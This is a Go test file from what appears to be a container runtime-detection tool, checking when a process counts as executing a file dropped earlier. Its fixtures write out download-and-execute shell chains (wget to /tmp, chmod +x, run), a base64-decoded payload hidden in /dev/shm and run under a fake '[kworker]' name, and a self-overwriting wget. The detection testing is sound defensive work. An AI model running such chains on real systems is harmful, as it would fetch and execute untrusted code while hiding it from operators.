package evidence

import (
	"fmt"
	"math/rand/v2"
	"testing"

	"tidewaiter/command"
	"tidewaiter/event"
)

// act is one thing that a container did, at a second of its story: it ran
// "args" in cwd as exe, or wrote a file.
type act struct {
	at          int64
	exe, script string
	args        []string
	cwd         string
	writes      string // a file that was written; nothing ran then
}

// facts makes the facts of a story. Times are told to the second.
func facts(story []act) []Fact {
	var out []Fact
	for i, a := range story {
		e := &event.Event{Time: event.Time{At: a.at * event.Second, Res: 1}}
		e.ID[0], e.ID[1] = byte(i), byte(i>>8)
		if a.writes != "" {
			e.Body = &event.FileWrite{Path: a.writes}
			out = append(out, Fact{Kind: Write, Event: e})
			continue
		}
		e.Body = &event.Process{Exe: a.exe, Script: a.script, Args: a.args, Cwd: a.cwd}
		out = append(out, Fact{Kind: Command, Event: e, Command: &CommandFact{Line: command.Parse(a.args, a.exe, a.script), Exe: a.exe, Script: a.script}})
	}
	return out
}

// TestDropped pins when a command counts as running a file that was written in
// the container before: the last act of each story is asked.
func TestDropped(t *testing.T) {
	sh := func(at int64, script string) act {
		return act{at: at, exe: "/bin/sh", args: []string{"sh", "-c", script}, cwd: "/"}
	}
	run := func(at int64, exe string, args ...string) act { return act{at: at, exe: exe, args: args, cwd: "/"} }
	for name, c := range map[string]struct {
		story []act
		want  bool
	}{
		"written, then run":               {[]act{{at: 1, writes: "/tmp/x"}, run(2, "/tmp/x", "/tmp/x")}, true},
		"downloaded, then run":            {[]act{run(1, "/usr/bin/wget", "wget", "-O", "/tmp/x", "http://a.example/x"), run(2, "/tmp/x", "x")}, true},
		"in the same moment":              {[]act{{at: 2, writes: "/tmp/x"}, run(2, "/tmp/x", "x")}, true},
		"run, then written":               {[]act{{at: 3, writes: "/tmp/x"}, run(2, "/tmp/x", "x")}, false},
		"run, then downloaded":            {[]act{run(3, "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://a.example/x"), run(2, "/tmp/x", "x")}, false},
		"written twice, run between":      {[]act{{at: 3, writes: "/tmp/x"}, {at: 1, writes: "/tmp/x"}, run(2, "/tmp/x", "x")}, true},
		"another file":                    {[]act{{at: 1, writes: "/tmp/y"}, run(2, "/tmp/x", "x")}, false},
		"only made executable":            {[]act{run(1, "/bin/chmod", "chmod", "+x", "/tmp/x"), run(2, "/tmp/x", "x")}, false},
		"relative to where it ran":        {[]act{{at: 1, exe: "/usr/bin/wget", args: []string{"wget", "http://a.example/x"}, cwd: "/opt/app"}, run(2, "/opt/app/x", "./x")}, true},
		"relative to elsewhere":           {[]act{{at: 1, exe: "/usr/bin/wget", args: []string{"wget", "http://a.example/x"}, cwd: "/opt"}, run(2, "/opt/app/x", "./x")}, false},
		"relative with dots":              {[]act{{at: 1, exe: "/usr/bin/curl", args: []string{"curl", "-o", "../x", "http://a.example/x"}, cwd: "/opt/app"}, run(2, "/opt/x", "x")}, true},
		"another way to say the path":     {[]act{{at: 1, writes: "/tmp/./d/..//x"}, run(2, "/tmp/x", "x")}, true},
		"the script's own download":       {[]act{sh(1, "wget http://a.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"), run(2, "/tmp/x", "/tmp/x")}, true},
		"the script that drops and runs":  {[]act{sh(1, "wget http://a.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x")}, true},
		"the script that only drops":      {[]act{sh(1, "wget http://a.example/x -O /tmp/x; chmod +x /tmp/x")}, false},
		"the script that runs, and drops": {[]act{sh(1, "/tmp/x; wget http://a.example/x -O /tmp/x")}, false},
		"a script's redirection":          {[]act{sh(1, "base64 -d /x > /dev/shm/.k"), run(2, "/dev/shm/.k", "[kworker]")}, true},
		"to /dev/null":                    {[]act{sh(1, "x > /dev/null"), run(2, "/dev/null", "x")}, false},
		"by an interpreter":               {[]act{{at: 1, writes: "/tmp/x.sh"}, run(2, "/bin/sh", "sh", "/tmp/x.sh")}, true},
		"by an interpreter, relative":     {[]act{{at: 1, writes: "/opt/x.py"}, {at: 2, exe: "/usr/bin/python3", args: []string{"python3", "x.py"}, cwd: "/opt"}}, true},
		"by an interpreter, elsewhere":    {[]act{{at: 1, writes: "/opt/x.py"}, {at: 2, exe: "/usr/bin/python3", args: []string{"python3", "x.py"}, cwd: "/app"}}, false},
		"by the kernel's interpreter":     {[]act{{at: 1, writes: "/tmp/x"}, {at: 2, exe: "/bin/sh", script: "/tmp/x", args: []string{"/bin/sh", "/tmp/x"}, cwd: "/"}}, true},
		"by a wrapper":                    {[]act{{at: 1, writes: "/tmp/x"}, run(2, "/usr/bin/nohup", "nohup", "/tmp/x")}, true},
		"by the loader":                   {[]act{{at: 1, writes: "/tmp/x"}, run(2, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "/tmp/x")}, true},
		"told by argv alone":              {[]act{{at: 1, writes: "/tmp/x"}, run(2, "", "/tmp/x")}, true},
		"only read":                       {[]act{{at: 1, writes: "/tmp/x.conf"}, run(2, "/bin/cat", "cat", "/tmp/x.conf")}, false},
		"a downloader renews itself":      {[]act{run(1, "/usr/bin/wget", "wget", "-O", "/usr/bin/wget", "http://a.example/wget")}, false},
		"a downloader was renewed":        {[]act{run(1, "/usr/bin/wget", "wget", "-O", "/usr/bin/wget", "http://a.example/wget"), run(2, "/usr/bin/wget", "wget")}, true},
		"nothing is known of it":          {[]act{{at: 1, writes: "/tmp/x"}, run(2, "")}, false},
		"the folder is not known":         {[]act{{at: 1, exe: "/usr/bin/wget", args: []string{"wget", "http://a.example/x"}}, {at: 2, exe: "/x", args: []string{"x"}}}, false},
	} {
		t.Run(name, func(t *testing.T) {
			list := facts(c.story)
			asked := list[len(list)-1].Event
			before := *list[len(list)-1].Command
			rng := rand.New(rand.NewPCG(1, 2))
			for range 5 { // the order in which facts come has no trace
				rng.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
				for _, f := range NewSubject(SubjectID{}, append([]Fact{}, list...)).Facts {
					if f.Event == asked && (f.Command.Dropped != "") != c.want {
						t.Errorf("dropped: %q, of %s", f.Command.Dropped, fmt.Sprintf("%+v", f.Command.Line))
					}
					if f.Event != asked && f.Kind == Command && f.Command.Dropped != "" && f.Command.Drops == "" {
						t.Errorf("%q counts as dropped", f.Command.Text)
					}
				}
			}
			for _, f := range list {
				if f.Event == asked && f.Command.Dropped != before.Dropped {
					t.Error("the fact that came in was changed")
				}
			}
		})
	}
}
